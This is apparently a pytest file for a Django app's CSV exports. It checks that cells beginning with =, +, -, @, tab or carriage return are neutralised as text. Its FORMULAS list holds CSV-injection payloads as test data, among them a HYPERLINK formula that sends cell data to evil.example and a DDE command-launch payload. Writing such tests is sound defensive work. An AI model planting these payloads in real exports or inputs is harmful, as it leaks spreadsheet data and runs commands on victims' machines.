"""Every CSV export writes cells that a spreadsheet would run as formulas as text."""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from django.urls import reverse

from recommendations import services
from strategy.csv_export import neutralised
from tests.factories import UserFactory, iteration
from tests.factories import recommendation as make

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain text", "", "a = b", 42, -5, None, "'quoted"])
def test_other_cells_are_left_as_they_are(value):
    assert neutralised(value) == value


def test_every_csv_export_uses_the_one_writer():
    """No module but strategy/csv_export.py makes a csv writer of its own."""
    root = Path(__file__).resolve().parents[2]
    found = subprocess.run(
        [
            "grep",
            "-rlE",
            r"csv\.(writer|DictWriter)",
            "strategy",
            "recommendations",
            "groups",
            "timeline",
        ],
        cwd=root,
        capture_output=True,
        text=True,
    ).stdout.split()
    assert found == ["strategy/csv_export.py"]


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _no_live_formula(cells):
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.fixture
def hostile(db, working_group, user):
    """A published recommendation whose title and summary are formulas, with a public
    comment that is one."""
    made = make(working_group, user, title=FORMULAS[0], summary=FORMULAS[1], body="@SUM(1)\n")
    services.recommendation_publish(recommendation=made, user=user, iteration=iteration())
    made.refresh_from_db()
    services.feedback_start(version=made.published_version, user=user, body=FORMULAS[4])
    return made


def test_the_recommendations_export(client, hostile):
    cells = _cells(client.get("/recommendations/export.csv"))
    _no_live_formula(cells)
    assert "'" + FORMULAS[0] in cells
    assert "'" + FORMULAS[1] in cells


def test_the_feedback_export(client, hostile):
    cells = _cells(client.get(reverse("public:feedback_csv")))
    _no_live_formula(cells)
    assert "'" + FORMULAS[4] in cells


def test_the_coverage_export(client, hostile, user):
    services.source_fate_set(source=hostile, fate="left_out", reason=FORMULAS[2], user=user)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    cells = _cells(client.get(reverse("synthesis:coverage_csv")))
    _no_live_formula(cells)
    assert "'" + FORMULAS[0] in cells
    assert "'" + FORMULAS[2] in cells


def test_the_admin_export_action(client, hostile):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.post(
        reverse("admin:recommendations_recommendation_changelist"),
        {"action": "export_csv", "_selected_action": [hostile.pk]},
    )
    cells = _cells(response)
    _no_live_formula(cells)
    assert "'" + FORMULAS[0] in cells
